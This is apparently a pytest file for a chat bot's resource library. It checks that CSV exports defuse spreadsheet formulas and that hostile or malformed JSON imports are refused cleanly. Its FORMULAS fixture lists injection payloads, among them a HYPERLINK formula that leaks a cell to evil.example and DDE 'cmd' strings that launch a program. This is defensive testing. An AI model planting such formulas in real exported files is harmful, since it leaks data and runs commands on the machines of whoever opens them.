"""Library files are data, never code: an export never hands a spreadsheet a formula a member wrote, and
an import of a hostile or malformed JSON file gets a clear refusal that changes nothing.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from simcord import InteractionResult, assert_error, assert_responded
from sqlalchemy import select

from core.errors import InvalidInput
from core.tree import APOLOGY
from storage.models.resources import Resource
from tests.conftest import World
from tests.safety.support import db_snapshot

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


async def export_rows(world: World) -> list[dict[str, str]]:
    result = await world.mod.slash(world.general, "resources export")
    [attachment] = result.response.attachments
    text = (await attachment.read()).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def stored_titles(world: World) -> set[str]:
    async with world.bot.db.read() as session:
        return set((await session.scalars(select(Resource.title))).all())


async def test_an_export_never_starts_a_cell_with_a_formula_and_reads_back_unchanged(world: World) -> None:
    """Alice shares resources whose titles and descriptions are spreadsheet formulas. The moderator's export
    shows them as text (a leading quote); removing them and importing the export back restores them exactly."""
    await world.mod.slash(world.general, "setup options", review_resources=False)
    for number, formula in enumerate(FORMULAS):
        shared = await world.alice.slash(
            world.general,
            "resource share",
            url=f"https://example.org/{number}",
            title=formula,
            description=formula,
            tags="-tag, @tag",
        )
        assert_responded(shared, contains="Added", ephemeral=True)
    rows = await export_rows(world)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{column}: {cell!r}"
    assert {row["title"] for row in rows} == {"'" + formula for formula in FORMULAS}

    before = await stored_titles(world)
    assert before == set(FORMULAS)
    async with world.bot.db.read() as session:
        ids = (await session.scalars(select(Resource.id))).all()
    for resource_id in ids:
        await world.mod.slash(world.general, "resources remove", resource=resource_id)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    result = await world.mod.slash(
        world.general, "resources import", file=("resources.csv", buffer.getvalue().encode("utf-8"))
    )
    assert f"{len(FORMULAS)} resources added" in result.response.content
    assert await stored_titles(world) == before


async def refused_import(world: World, data: bytes) -> InteractionResult:
    """Import `data` as JSON; the answer is a refusal (not the apology) and no table changes."""
    before = await db_snapshot(world.bot)
    result = await world.mod.slash(world.general, "resources import", file=("library.json", data))
    assert_error(world.env, InvalidInput)
    text = result.response.content
    assert APOLOGY not in text
    assert "list of resources" in text
    assert (await db_snapshot(world.bot)).diff(before) == []
    return result


async def test_deeply_nested_json_gets_a_clear_refusal(world: World) -> None:
    """A JSON file nested a hundred thousand brackets deep is refused in plain words, not with the apology."""
    depth = 100_000
    result = await refused_import(world, b"[" * depth + b"]" * depth)
    assert "nested far too deeply" in result.response.content


@pytest.mark.parametrize(
    ("document", "says"),
    [
        ([{"url": "https://example.org/a", "title": "Fine"}, "just text"], "has a value as resource 2"),
        ([["https://example.org/a", "A list"]], "has a list as resource 1"),
        ([{"url": {"href": "https://example.org/a"}, "title": "Nested"}], "nested object in `url` of resource 1"),
        ([{"url": "https://example.org/a", "title": "T", "tags": [["deep"]]}], "nested list in `tags`"),
        ({"library": []}, "isn't a list of resources"),
        (42, "isn't a list of resources"),
    ],
)
async def test_a_json_file_of_the_wrong_shape_is_refused_with_what_is_wrong(
    world: World, document: object, says: str
) -> None:
    """Each wrongly shaped JSON file is refused with where the problem is and what shape to use."""
    result = await refused_import(world, json.dumps(document).encode())
    assert says in result.response.content


async def test_a_number_too_long_to_read_is_refused(world: World) -> None:
    """A number of ten thousand digits (past Python's integer-reading limit) is a clear refusal."""
    result = await refused_import(world, b'[{"url": "https://example.org/a", "title": ' + b"9" * 10_000 + b"}]")
    assert "number too long" in result.response.content
